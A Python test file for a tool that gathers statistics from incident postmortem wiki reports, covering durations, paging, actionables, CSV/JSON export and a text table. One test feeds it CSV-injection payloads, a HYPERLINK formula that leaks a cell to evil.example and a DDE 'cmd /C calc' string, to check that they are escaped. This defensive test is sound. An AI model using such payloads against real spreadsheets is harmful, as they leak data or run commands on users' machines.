"""Stats over many reports (postmortem.database.stats)."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

from postmortem.database.stats import FIELDS, parse_count, report_stats

from tests.conftest import SEED, WIKITECH


def _stats(tmp_path):
    binary = tmp_path / "binary.wiki"
    binary.write_bytes(b"\x00\x01garbage\xff")
    wmcs = (WIKITECH / "wmcs-proxy-nginx.wiki").read_text(encoding="utf-8")
    items = [WIKITECH / "sessionstore.wiki", WIKITECH / "upload-cache.wiki",
             WIKITECH / "toolsdb-primary-down.wiki", WIKITECH / "cite-visualeditor-references.wiki",
             ("Incidents/2024-11-25 WMCS proxy nginx failure", wmcs),
             binary, tmp_path / "missing.wiki", SEED]
    return report_stats(items)


def test_rows(tmp_path):
    rows = {Path(r["file"] or r["title"]).name: r for r in _stats(tmp_path).rows}
    session = rows["sessionstore.wiki"]
    # values read by hand from the page: 02:58-03:36, paged "batphone", 2 responders,
    # 7 actionables of which 2 without task, business-hours answer "No"
    assert (session["start"], session["end"], session["duration_minutes"]) == (
        "2025-03-31T02:58:00Z", "2025-03-31T03:36:00Z", 38)
    assert (session["status"], session["score"], session["answered"]) == ("draft", 10, 15)
    assert (session["paged"], session["responders"]) == (None, 2)
    assert (session["actionables"], session["actionables_with_task"], session["actionables_without_task"]) == (7, 5, 2)
    assert session["paged_after_hours"] is True
    upload = rows["upload-cache.wiki"]
    assert (upload["duration_minutes"], upload["paged"], upload["responders"]) == (18 * 60 + 4, 35, 9)
    cite = rows["cite-visualeditor-references.wiki"]
    assert cite["paged"] == 0 and cite["paged_after_hours"] is False
    tools = rows["toolsdb-primary-down.wiki"]
    assert tools["paged_after_hours"] is False and tools["stated_total"] is None and tools["score"] == 11
    wmcs = rows["2024-11-25 WMCS proxy nginx failure"]
    assert (wmcs["duration_minutes"], wmcs["answered"], wmcs["file"]) == (48, 14, None)
    seed = rows[SEED.name]
    assert seed["start"] is None and seed["duration_minutes"] is None and seed["answered"] == 0


def test_unreadable_reports_are_rows_with_errors(tmp_path):
    rows = {Path(r["file"] or r["title"]).name: r for r in _stats(tmp_path).rows}
    assert "not a text file" in rows["binary.wiki"]["error"]
    assert "cannot read report" in rows["missing.wiki"]["error"]
    assert rows["missing.wiki"]["score"] is None


def test_totals(tmp_path):
    totals = _stats(tmp_path).totals
    assert (totals["reports"], totals["read"], totals["errors"]) == (8, 6, 2)
    assert totals["duration_minutes"] == 38 + 1084 + 19 + 5358 + 48
    assert totals["paged"] == 35 + 1 + 0 + 1 and totals["paged_unknown"] == 2
    assert totals["paged_after_hours"] == 3  # sessionstore, upload-cache, wmcs answered "no"
    assert totals["by_status"] == {"draft": 2, "review": 2, "final": 1, "unknown": 1}


def test_json_and_csv(tmp_path):
    stats = _stats(tmp_path)
    data = json.loads(json.dumps(stats.to_json()))
    assert set(data) == {"reports", "totals"} and len(data["reports"]) == 8
    assert all(set(r) == set(FIELDS) for r in data["reports"])
    rows = list(csv.DictReader(io.StringIO(stats.to_csv())))
    assert len(rows) == 8 and list(rows[0]) == list(FIELDS)
    assert rows[0]["paged_after_hours"] == "true" and rows[0]["paged"] == ""


def test_counts():
    assert parse_count("35 (batphone)") == 35
    assert parse_count("6 + 3") == 9
    assert parse_count("batphone") is None
    assert parse_count(None) is None


def test_empty():
    stats = report_stats([])
    assert stats.rows == () and stats.totals["reports"] == 0 and stats.totals["mean_score"] is None


def test_resolve_minutes_are_the_reports_own_time_to_resolve(tmp_path, run_cli):
    """A `resolved` moment before the incident's end: the report says 1 h 35 min,
    and stats said 235 (from OUTAGE BEGINS to the end)."""
    path = tmp_path / "incident.toml"
    path.write_text('[incident]\nid = "2023-09-28 resolve"\nstart = "2023-09-28 14:00"\nend = "2023-09-28 18:00"\n'
                    '[[event]]\ntime = "2023-09-28 14:05"\ntext = "errors start"\ntags = ["outage-begins"]\n'
                    '[[event]]\ntime = "2023-09-28 15:00"\ntext = "rollback"\ntags = ["outage-ends"]\n'
                    '[[event]]\ntime = "2023-09-28 15:40"\ntext = "all clear"\ntags = ["resolved"]\n',
                    encoding="utf-8")
    run_cli("render", path, "-o", tmp_path / "r.wiki")
    assert "* Time to resolve: 1 h 35 min (" in (tmp_path / "r.wiki").read_text(encoding="utf-8")
    row = report_stats([tmp_path / "r.wiki"]).rows[0]
    assert (row["resolve_minutes"], row["outage_minutes"]) == (95, 55)


def test_csv_cells_a_spreadsheet_would_run_are_text(tmp_path):
    """A wiki page's title is anyone's to choose (`stats --wiki`): the cells
    starting with = + - @ tab or CR get a leading ' (OWASP "CSV Injection"),
    numbers stay numbers."""
    text = (WIKITECH / "sessionstore.wiki").read_text(encoding="utf-8")
    titles = ['=HYPERLINK("https://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)",
              "\t=1+1", "\r=1+1", "Incidents/2025-03-31 sessionstore"]
    rows = list(csv.DictReader(io.StringIO(report_stats([(title, text) for title in titles]).to_csv())))
    assert [row["title"] for row in rows] == ["'" + title for title in titles[:-1]] + [titles[-1]]
    assert {row["duration_minutes"] for row in rows} == {"38"}


def test_the_text_table_is_one_readable_line_per_report_then_the_totals(tmp_path):
    from postmortem.database.stats_table import stats_table
    text = stats_table(_stats(tmp_path))
    lines = text.splitlines()
    assert lines[0].split()[:3] == ["REPORT", "START", "(UTC)"]
    table = lines[:lines.index("")]
    assert max(len(line) for line in table) <= 170   # a wide terminal; the CSV had 373
    session = next(line for line in lines if line.startswith("sessionstore.wiki"))
    # read from the page: 02:58-03:36 (38 min), OUTAGE BEGINS 02:58 and ENDS 03:36, draft,
    # 10 "yes" of 15 answered, paging not stated as a number, 7 actionables, 2 without a task
    assert session.split() == ["sessionstore.wiki", "2025-03-31", "02:58", "draft", "38", "min", "38", "min",
                               "10/15", "-", "7", "(2", "without", "task)"]
    assert next(line for line in table if line.startswith("binary.wiki")).endswith("not read (why: below)")
    why = lines[lines.index("Not read:") + 1:]
    assert why[0].startswith("  binary.wiki: ") and why[1].startswith("  missing.wiki: ")
    wmcs = next(line for line in table if line.startswith("Incidents/2024-11-25 WMCS proxy"))
    assert wmcs.split("  ")[0] == "Incidents/2024-11-25 WMCS proxy nginx f…"   # a page title, cut to 40
    assert "8 reports: 6 read, 2 errors (" in text
    assert "Actionables: " in text and "without a task" in text


def test_the_text_table_names_two_files_of_one_name_by_their_paths(tmp_path):
    from postmortem.database.stats_table import stats_table
    for folder in ("a", "b"):
        (tmp_path / folder).mkdir()
        (tmp_path / folder / "report.wiki").write_text((WIKITECH / "sessionstore.wiki").read_text(encoding="utf-8"),
                                                        encoding="utf-8")
    text = stats_table(report_stats([tmp_path / "a" / "report.wiki", tmp_path / "b" / "report.wiki"]))
    names = [line.split()[0] for line in text.splitlines()[1:3]]
    # a path longer than the column keeps its end, where the two differ
    assert [name.endswith(f"{folder}/report.wiki") for name, folder in zip(names, "ab")] == [True, True]
    assert names[0] != names[1] and all(len(name) <= 40 for name in names)
